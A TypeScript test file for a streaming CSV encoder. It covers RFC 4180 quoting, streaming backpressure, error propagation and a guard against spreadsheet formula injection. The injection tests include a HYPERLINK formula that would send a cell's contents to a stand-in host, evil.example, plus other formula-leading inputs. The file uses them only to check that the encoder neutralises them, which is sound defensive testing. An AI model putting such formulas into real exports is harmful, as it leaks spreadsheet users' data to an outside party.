/**
 * The CSV encoder alone (src/core/csv.ts): RFC 4180 escaping, the formula-injection guard, and
 * that it reads its rows only as fast as its reader takes them.
 */
import assert from 'node:assert/strict';
import type { Readable } from 'node:stream';
import fc from 'fast-check';
import { describe, it } from './fixtures/suites.ts';
import { csvStream } from '../src/core/csv.ts';

type Cell = string | number | null;

async function* rowsOf<Row>(rows: Row[]): AsyncGenerator<Row> {
  yield* rows;
}

async function textOf(stream: Readable): Promise<string> {
  return (await bytesOf(stream)).toString('utf8');
}

async function bytesOf(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

/** A CSV of one column holding `cell`, as text. */
async function oneCell(cell: Cell): Promise<string> {
  const text = await textOf(csvStream([{ header: 'c', value: (row: { cell: Cell }) => row.cell }], rowsOf([{ cell }])));
  assert.ok(text.startsWith('c\r\n') && text.endsWith('\r\n'), `not one record after the header: ${JSON.stringify(text)}`);
  return text.slice('c\r\n'.length, -2);
}

/** Lets every pending callback and promise of the stream run: what it would pull, it has pulled. */
async function settle() {
  for (let i = 0; i < 10; i++) await new Promise((resolve) => setImmediate(resolve));
}

/** RFC 4180 read back: records of fields, for the round trip below. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        assert.ok(quote >= 0, 'unterminated quoted field');
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      field = text.slice(i, end < 0 ? text.length : i + end);
      assert.ok(!/["\r\n]/.test(field), `unquoted field holds a quote or line break: ${JSON.stringify(field)}`);
      i += field.length;
    }
    fields.push(field);
    if (text.startsWith('\r\n', i)) {
      records.push(fields);
      fields = [];
      i += 2;
    } else {
      assert.equal(text[i], ',', `expected a comma at ${i}`);
      i++;
    }
  }
  assert.deepEqual(fields, [], 'the last record does not end with CRLF');
  return records;
}

describe('CSV cells', () => {
  const cases: Array<[string, Cell, string]> = [
    ['plain text as it is', 'Blue mug', 'Blue mug'],
    ['a comma quoted', 'Mug, blue', '"Mug, blue"'],
    ['double quotes doubled and quoted', 'The "big" mug', '"The ""big"" mug"'],
    ['a line feed quoted', 'two\nlines', '"two\nlines"'],
    ['a carriage return quoted', 'two\rlines', '"two\rlines"'],
    ['CRLF quoted', 'two\r\nlines', '"two\r\nlines"'],
    ['a semicolon quoted (the separator of Excel in many locales)', 'a;b', '"a;b"'],
    ['an empty string empty', '', ''],
    ['null empty', null, ''],
    ['an integer as it is', 1999, '1999'],
    ['a negative number given as a number as it is', -5, '-5'],
    ['a fraction as it is', 0.5, '0.5'],
    ['NaN empty', Number.NaN, ''],
    ['-Infinity empty (it would read as a formula)', Number.NEGATIVE_INFINITY, ''],
    ['text not starting a formula as it is', 'a=1+1', 'a=1+1'],
    ['a leading space is not a formula', ' =1', ' =1'],
    ['non-ASCII text as it is', 'Crème brûlée, 20 €', '"Crème brûlée, 20 €"'],
  ];
  for (const [name, cell, expected] of cases) {
    it(name, async () => assert.equal(await oneCell(cell), expected));
  }
});

describe('CSV formula injection', () => {
  const cases: Array<[string, string, string]> = [
    ['=', '=1+1', "'=1+1"],
    ['+', '+1', "'+1"],
    ['- (a number given as text)', '-5', "'-5"],
    ['@', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['tab', '\t=1', "'\t=1"],
    ['CR, then quoted', '\r=1', '"\'\r=1"'],
    ['NUL', '\0=1', "'\0=1"],
    ['a formula with quotes and commas', '=HYPERLINK("http://evil.example/?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'],
  ];
  for (const [name, cell, expected] of cases) {
    it(`a cell starting with ${name} is prefixed with a single quote`, async () => assert.equal(await oneCell(cell), expected));
  }

  it('guards the header line too', async () => {
    const text = await textOf(csvStream([{ header: '=cmd', value: () => 1 }], rowsOf([{}])));
    assert.equal(text, "'=cmd\r\n1\r\n");
  });
});

describe('CSV files', () => {
  const columns = [
    { header: 'order', value: (row: { id: string; minor: number | null }) => row.id },
    { header: 'revenue, minor units', value: (row: { id: string; minor: number | null }) => row.minor },
  ];

  it('writes the header line first, CRLF after every record, UTF-8 without a byte order mark', async () => {
    const bytes = await bytesOf(csvStream(columns, rowsOf([{ id: 'o-1', minor: 1999 }, { id: 'ö-2', minor: null }])));
    assert.equal(bytes.toString('utf8'), 'order,"revenue, minor units"\r\no-1,1999\r\nö-2,\r\n');
    assert.deepEqual([...bytes.subarray(0, 3)], [...Buffer.from('ord')]);
    assert.ok(bytes.includes(Buffer.from([0xc3, 0xb6])), 'ö as UTF-8');
  });

  it('writes only the header line when there are no rows', async () => {
    assert.equal(await textOf(csvStream(columns, rowsOf([]))), 'order,"revenue, minor units"\r\n');
  });

  it('reads back, by RFC 4180, as the cells it was given (guarded ones with their quote)', async () => {
    let guarded = 0;
    let quoted = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(fc.oneof(fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', ';', '=', '-', '@', '\t', 'é') }), fc.string()), { minLength: 3, maxLength: 3 }), { maxLength: 5 }), async (rows) => {
        const text = await textOf(csvStream([0, 1, 2].map((i) => ({ header: `h${i}`, value: (row: string[]) => row[i]! })), rowsOf(rows)));
        const records = parse(text);
        assert.deepEqual(records[0], ['h0', 'h1', 'h2']);
        assert.equal(records.length, rows.length + 1);
        rows.forEach((row, r) =>
          row.forEach((cell, c) => {
            const read = records[r + 1]![c]!;
            if (/^[=+\-@\t\r\0]/.test(cell)) {
              guarded++;
              assert.equal(read, `'${cell}`);
            } else assert.equal(read, cell);
            if (/[",;\r\n]/.test(cell)) quoted++;
          }),
        );
      }),
      { numRuns: 300 },
    );
    assert.ok(guarded >= 100 && quoted >= 100, `too few guarded (${guarded}) or quoted (${quoted}) cells`);
  });

  it('pulls rows only as the reader reads: a 200,000-row export is never all in memory', async () => {
    const TOTAL = 200_000;
    let pulled = 0;
    async function* orders() {
      for (let i = 0; i < TOTAL; i++) {
        pulled++;
        yield { id: `order-${i}`, minor: i };
      }
    }
    const stream = csvStream(columns, orders());
    await settle();
    assert.equal(pulled, 0, 'rows pulled before anyone read');

    const reader = stream[Symbol.asyncIterator]();
    const first = await reader.next();
    assert.ok(!first.done && first.value.length > 0, 'no first chunk');
    await settle();
    // The first chunk, and at most the few the stream buffers ahead (about 64 KiB each, ~3,500 rows).
    assert.ok(pulled < 15_000, `${pulled} rows pulled after one chunk was read`);

    let lines = (first.value as Buffer).toString('utf8').split('\r\n').length - 1;
    for (let next = await reader.next(); !next.done; next = await reader.next()) lines += (next.value as Buffer).toString('utf8').split('\r\n').length - 1;
    assert.equal(pulled, TOTAL);
    assert.equal(lines, TOTAL + 1);
  });

  it('destroys the stream with the error of its source', async () => {
    async function* failing() {
      yield { id: 'o-1', minor: 1 };
      throw new Error('cursor lost its connection');
    }
    const stream = csvStream(columns, failing());
    await assert.rejects(textOf(stream), /cursor lost its connection/);
    assert.ok(stream.destroyed, 'the stream is not destroyed');
  });

  it('destroys the stream with the error of a column', async () => {
    const stream = csvStream([{ header: 'x', value: (): string => { throw new TypeError('bad row'); } }], rowsOf([1]));
    await assert.rejects(textOf(stream), TypeError);
  });

  it('ends its source when the reader stops early', async () => {
    let ended = false;
    async function* orders() {
      try {
        for (let i = 0; ; i++) yield { id: `order-${i}`, minor: i };
      } finally {
        ended = true;
      }
    }
    const stream = csvStream(columns, orders());
    for await (const chunk of stream) {
      assert.ok((chunk as Buffer).length > 0, 'an empty chunk');
      break;
    }
    await settle();
    assert.ok(stream.destroyed, 'the stream is not destroyed');
    assert.ok(ended, 'the source’s finally did not run');
  });
});
